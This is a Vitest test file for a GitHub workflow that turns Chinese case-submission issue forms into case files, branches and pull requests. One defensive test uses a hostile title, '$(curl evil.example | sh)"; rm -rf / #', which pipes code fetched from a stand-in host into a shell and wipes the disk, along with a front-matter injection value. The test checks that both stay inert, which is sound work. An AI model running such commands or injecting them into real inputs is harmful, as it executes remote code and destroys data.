import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import examples from '@octokit/webhooks-examples';
import type { IssuesEvent } from '@octokit/webhooks-types';
import { http, HttpResponse } from 'msw';
import { setupServer } from 'msw/node';
import { parse } from 'yaml';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { formatDiagnostic } from '../../src/lib/diagnostics.ts';
import { readThemes } from '../../src/lib/safe-yaml.ts';
import { createOctokit } from '../../scripts/lib/github/octokit.ts';
import { caseFromIssue, FORM_FIELDS, parseIssueForm } from '../../scripts/lib/intake/issue-form.ts';
import { handleIssue, type IntakeOptions } from '../../scripts/lib/intake/handle-issue.ts';
import { START_CHECK_NOTE } from '../../scripts/lib/intake/submit-case.ts';
import { listContentFiles, loadContext } from '../../scripts/lib/validate/load.ts';
import { validateFile } from '../../scripts/lib/validate/validate-file.ts';

const themes = readThemes();

/** An issue body as GitHub renders the submit-case form. */
function formBody(values: Partial<Record<keyof typeof FORM_FIELDS, string>> = {}): string {
  const filled: Record<keyof typeof FORM_FIELDS, string> = {
    title: '秦都区街道政协工作联络组',
    region: '610402',
    organization: '秦都区政协',
    year: '2023',
    themes: '基层协商平台, 社情民意',
    summary: '在街道设立政协工作联络组和社情民意信息工作站。',
    background: '基层协商缺少固定平台。',
    practice: '出台意见，在街道设立政协工作联络组。\n\n设立社情民意信息工作站。',
    results: '健全了基层协商平台化的工作格局。',
    sources: 'reports/2023/qindu',
    ...values,
  };
  return (Object.keys(FORM_FIELDS) as (keyof typeof FORM_FIELDS)[]).map((k) => `### ${FORM_FIELDS[k]}\n\n${filled[k] || '_No response_'}`).join('\n\n');
}

describe('caseFromIssue', () => {
  test('drafts a case file that passes the validator', () => {
    const draft = caseFromIssue(formBody(), 42, themes);
    if (Array.isArray(draft)) throw new Error(draft.map(formatDiagnostic).join('\n'));
    expect(draft.path).toBe('content/cases/2023/qindu-issue-42.md');
    const context = loadContext(process.cwd(), listContentFiles(process.cwd()));
    const problems = validateFile({ file: draft.path, bytes: new TextEncoder().encode(draft.content), isSymlink: false }, context);
    expect(problems.map(formatDiagnostic)).toEqual([]);
  });

  test('keeps hostile text as inert data in the YAML', () => {
    const title = '$(curl evil.example | sh)"; rm -rf / #';
    const draft = caseFromIssue(formBody({ title, summary: '---js\n{}\n---' }), 1, themes);
    if (Array.isArray(draft)) throw new Error('unexpected');
    const yaml = draft.content.split('---\n')[1] ?? '';
    expect((parse(yaml) as { title: string; summary: string }).title).toBe(title);
    expect(draft.content.startsWith('---\ntitle:')).toBe(true);
  });

  test('names each missing field', () => {
    const result = caseFromIssue(formBody({ results: '', region: '' }), 3, themes);
    expect(Array.isArray(result) && result.map((d) => d.message)).toEqual(['表单中“行政区划代码”没有填写', '表单中“成效”没有填写']);
  });

  test('the form offers exactly the themes of the vocabulary', () => {
    const form = parse(readFileSync('.github/ISSUE_TEMPLATE/submit-case.yml', 'utf8')) as { body: { id?: string; attributes: { label?: string; options?: string[] } }[] };
    expect(form.body.find((b) => b.id === 'themes')?.attributes.options).toEqual(themes.map((t) => t.name));
    expect(form.body.filter((b) => b.id).map((b) => b.attributes.label)).toEqual(Object.values(FORM_FIELDS));
    expect(parseIssueForm(formBody()).size).toBe(Object.keys(FORM_FIELDS).length);
  });
});

/** A webhook example payload of `action`, turned into an event on issue #42 carrying the intake form. */
function issueEvent(action: 'opened' | 'edited' | 'labeled', change: { body?: string; labels?: string[]; state?: 'open' | 'closed'; changes?: object; label?: string } = {}): IssuesEvent {
  const example = examples.find((e) => e.name === 'issues')?.examples.find((e) => (e as { action?: string }).action === action);
  const event = structuredClone(example) as unknown as IssuesEvent & { changes?: object; label?: { name: string } };
  event.repository.default_branch = 'main';
  event.issue.number = 42;
  event.issue.body = change.body ?? formBody();
  event.issue.state = change.state ?? 'open';
  event.issue.labels = (change.labels ?? ['案例投稿']).map((name) => ({ ...(event.issue.labels?.[0] as object), name })) as never;
  if (action === 'edited') event.changes = change.changes ?? { body: { from: formBody({ title: '旧标题' }) } };
  if (action === 'labeled') event.label = { ...(event.label as object), name: change.label ?? '案例投稿' } as never;
  return event;
}

describe('handleIssue', () => {
  const API = 'https://api.github.test';
  const base = `${API}/repos/casebook/casebook`;
  const repo = { owner: 'casebook', repo: 'casebook' };
  interface Branch {
    /** Logins of the branch's own commits. */
    authors: string[];
    /** Files the branch adds to main, by path. */
    files: Map<string, string>;
  }
  let state: { branches: Map<string, Branch>; pulls: { number: number; state: 'open' | 'closed'; body: string }[]; comments: { id: number; issue: number; body: string }[]; calls: string[] };
  const blobSha = (text: string) => createHash('sha1').update(text).digest('hex');
  const branchOf = (request: Request, name?: string) => state.branches.get(name ?? new URL(request.url).searchParams.get('ref') ?? '');
  const pathOf = (request: Request) => decodeURIComponent(new URL(request.url).pathname.split('/contents/')[1] ?? '');

  const server = setupServer(
    http.get(`${base}/git/ref/*`, ({ request }) => {
      const ref = decodeURIComponent(new URL(request.url).pathname.split('/git/ref/')[1] ?? '').replace(/^heads\//, '');
      return ref === 'main' || state.branches.has(ref) ? HttpResponse.json({ object: { sha: 'b'.repeat(40) } }) : HttpResponse.json({ message: 'Not Found' }, { status: 404 });
    }),
    http.post(`${base}/git/refs`, async ({ request }) => {
      const { ref } = (await request.json()) as { ref: string };
      state.branches.set(ref.replace('refs/heads/', ''), { authors: [], files: new Map() });
      state.calls.push(`create ${ref}`);
      return HttpResponse.json({}, { status: 201 });
    }),
    http.get(`${base}/compare/*`, ({ request }) => {
      const branch = state.branches.get(decodeURIComponent(new URL(request.url).pathname.split('...')[1] ?? ''));
      return HttpResponse.json({
        total_commits: branch?.authors.length ?? 0,
        commits: (branch?.authors ?? []).map((login) => ({ author: { login }, commit: { author: { name: login } } })),
        files: [...(branch?.files ?? [])].map(([filename, text]) => ({ filename, status: 'added', sha: blobSha(text) })),
      });
    }),
    http.get(`${base}/contents/*`, ({ request }) => {
      const text = branchOf(request)?.files.get(pathOf(request));
      if (text === undefined) return HttpResponse.json({ message: 'Not Found' }, { status: 404 });
      return HttpResponse.json({ type: 'file', sha: blobSha(text), content: Buffer.from(text).toString('base64'), encoding: 'base64' });
    }),
    http.put(`${base}/contents/*`, async ({ request }) => {
      const body = (await request.json()) as { content: string; sha?: string; branch: string };
      const branch = branchOf(request, body.branch);
      branch?.files.set(pathOf(request), Buffer.from(body.content, 'base64').toString('utf8'));
      branch?.authors.push('github-actions[bot]');
      state.calls.push(body.sha ? `update ${pathOf(request)}` : `create ${pathOf(request)}`);
      return HttpResponse.json({ content: {} });
    }),
    http.delete(`${base}/contents/*`, async ({ request }) => {
      const body = (await request.json()) as { sha: string; branch: string };
      const branch = branchOf(request, body.branch);
      const text = branch?.files.get(pathOf(request));
      if (text === undefined || blobSha(text) !== body.sha) return HttpResponse.json({ message: 'sha does not match' }, { status: 409 });
      branch?.files.delete(pathOf(request));
      branch?.authors.push('github-actions[bot]');
      state.calls.push(`delete ${pathOf(request)}`);
      return HttpResponse.json({ commit: {} });
    }),
    http.get(`${base}/pulls`, ({ request }) => {
      const wanted = new URL(request.url).searchParams.get('state') ?? 'open';
      return HttpResponse.json(state.pulls.filter((p) => wanted === 'all' || p.state === wanted));
    }),
    http.post(`${base}/pulls`, async ({ request }) => {
      const { body } = (await request.json()) as { body: string };
      state.pulls.push({ number: 50, state: 'open', body });
      state.calls.push('open pull request');
      return HttpResponse.json({ number: 50, html_url: 'https://github.test/pull/50' }, { status: 201 });
    }),
    http.patch(`${base}/pulls/:n`, async ({ params, request }) => {
      const { body } = (await request.json()) as { body: string };
      const pr = state.pulls.find((p) => p.number === Number(params['n']));
      if (pr) pr.body = body;
      state.calls.push(`update pull request ${params['n']}`);
      return HttpResponse.json({ number: Number(params['n']), html_url: `https://github.test/pull/${params['n']}`, body });
    }),
    http.get(`${base}/issues/:n/comments`, ({ params }) =>
      HttpResponse.json(state.comments.filter((c) => c.issue === Number(params['n'])).map((c) => ({ ...c, user: { type: 'Bot' } }))),
    ),
    http.post(`${base}/issues/:n/comments`, async ({ params, request }) => {
      const { body } = (await request.json()) as { body: string };
      state.comments.push({ id: state.comments.length + 1, issue: Number(params['n']), body });
      state.calls.push(`comment on #${params['n']}`);
      return HttpResponse.json({}, { status: 201 });
    }),
    http.patch(`${base}/issues/comments/:id`, async ({ params, request }) => {
      const { body } = (await request.json()) as { body: string };
      const comment = state.comments.find((c) => c.id === Number(params['id']));
      if (comment) comment.body = body;
      state.calls.push(`update comment on #${comment?.issue}`);
      return HttpResponse.json({});
    }),
  );
  beforeAll(() => server.listen({ onUnhandledRequest: 'error' }));
  afterEach(() => server.resetHandlers());
  afterAll(() => server.close());
  beforeEach(() => {
    state = { branches: new Map(), pulls: [], comments: [], calls: [] };
  });

  const github = createOctokit('t', API);
  const context = loadContext(process.cwd(), listContentFiles(process.cwd()));
  const options: IntakeOptions = {
    themes,
    check: (draft) => validateFile({ file: draft.path, bytes: new TextEncoder().encode(draft.content), isSymlink: false }, context),
    automation: ['github-actions[bot]'],
    checkStartsItself: false,
  };
  const draft = caseFromIssue(formBody(), 42, themes);
  if (Array.isArray(draft)) throw new Error('bad fixture');

  test('opens a branch, the file and a pull request, and answers on the issue', async () => {
    const result = await handleIssue(github, repo, issueEvent('opened'), options);
    expect(result).toEqual({ outcome: 'opened', pullRequest: 50, url: 'https://github.test/pull/50', moved: [] });
    expect(state.calls).toEqual(['create refs/heads/case/issue-42', `create ${draft.path}`, 'open pull request', 'comment on #42']);
    expect(state.branches.get('case/issue-42')?.files.get(draft.path)).toBe(draft.content);
    expect(state.pulls[0]?.body).toContain('Closes #42');
  });

  test('without a GitHub App, tells editors on the pull request and the issue how to start the check', async () => {
    await handleIssue(github, repo, issueEvent('opened'), options);
    expect(state.pulls[0]?.body).toContain(START_CHECK_NOTE);
    expect(state.comments[0]?.body).toContain('请先关闭、再重新打开这个合并请求');
    state.pulls = [];
    state.branches.clear();
    state.comments = [];
    await handleIssue(github, repo, issueEvent('opened'), { ...options, checkStartsItself: true });
    expect(state.pulls[0]?.body).not.toContain(START_CHECK_NOTE);
  });

  test('on an edit of the form updates the same file, pull request and comment', async () => {
    await handleIssue(github, repo, issueEvent('opened'), options);
    state.calls = [];
    const edited = formBody({ summary: '在街道设立政协工作联络组。' });
    await handleIssue(github, repo, issueEvent('edited', { body: edited }), options);
    expect(state.calls).toEqual([`update ${draft.path}`, 'update pull request 50', 'update comment on #42']);
  });

  test('the label added again changes no file', async () => {
    await handleIssue(github, repo, issueEvent('opened'), options);
    state.calls = [];
    await handleIssue(github, repo, issueEvent('labeled'), options);
    expect(state.calls).toEqual(['update pull request 50', 'update comment on #42']);
  });

  test('does nothing for another label, a title edit or a closed issue', async () => {
    await handleIssue(github, repo, issueEvent('opened'), options);
    const editorCommit = 'editor-li';
    state.branches.get('case/issue-42')?.authors.push(editorCommit);
    state.calls = [];
    const ignored = [
      issueEvent('labeled', { labels: ['案例投稿', '需修改'], label: '需修改' }),
      issueEvent('edited', { changes: { title: { from: '案例投稿：旧' } } }),
      issueEvent('edited', { state: 'closed' }),
      issueEvent('opened', { labels: ['bug'] }),
    ];
    for (const event of ignored) expect((await handleIssue(github, repo, event, options)).outcome).toBe('ignored');
    expect(state.calls).toEqual([]);
  });

  test('does nothing once the intake pull request was closed', async () => {
    state.pulls = [{ number: 50, state: 'closed', body: '' }];
    const result = await handleIssue(github, repo, issueEvent('edited'), options);
    expect(result).toEqual({ outcome: 'ignored', reason: 'pull request #50 from case/issue-42 was closed' });
    expect(state.calls).toEqual([]);
  });

  test('never overwrites a branch with a person’s commit: comments on the issue and the pull request instead', async () => {
    await handleIssue(github, repo, issueEvent('opened'), options);
    const branch = state.branches.get('case/issue-42');
    branch?.files.set(draft.path, '编辑改过的内容');
    branch?.authors.push('editor-li');
    state.calls = [];
    const result = await handleIssue(github, repo, issueEvent('edited', { body: formBody({ summary: '新的摘要。' }) }), options);
    expect(result).toEqual({ outcome: 'held', pullRequest: 50, people: ['editor-li'] });
    expect(branch?.files.get(draft.path)).toBe('编辑改过的内容');
    expect(state.calls).toEqual(['update comment on #42', 'comment on #50']);
    expect(state.comments.find((c) => c.issue === 50)?.body).toContain('已有 editor-li 的提交，没有自动覆盖');
  });

  test('counts the GitHub App’s commits as its own', async () => {
    const app = { ...options, automation: ['github-actions[bot]', 'casebook-intake[bot]'], checkStartsItself: true };
    await handleIssue(github, repo, issueEvent('opened'), app);
    state.branches.get('case/issue-42')?.authors.push('casebook-intake[bot]');
    const result = await handleIssue(github, repo, issueEvent('edited', { body: formBody({ summary: '新的摘要。' }) }), app);
    expect(result.outcome).toBe('updated');
  });

  test('moves the file when the region or the year changes', async () => {
    await handleIssue(github, repo, issueEvent('opened'), options);
    state.calls = [];
    const moved = caseFromIssue(formBody({ region: '610104', organization: '莲湖区政协', year: '2024' }), 42, themes);
    if (Array.isArray(moved)) throw new Error('bad fixture');
    const result = await handleIssue(github, repo, issueEvent('edited', { body: formBody({ region: '610104', organization: '莲湖区政协', year: '2024' }) }), options);
    expect(result).toMatchObject({ outcome: 'updated', moved: [draft.path] });
    expect(state.calls).toEqual([`create ${moved.path}`, `delete ${draft.path}`, 'update pull request 50', 'update comment on #42']);
    expect([...(state.branches.get('case/issue-42')?.files.keys() ?? [])]).toEqual([moved.path]);
  });
});
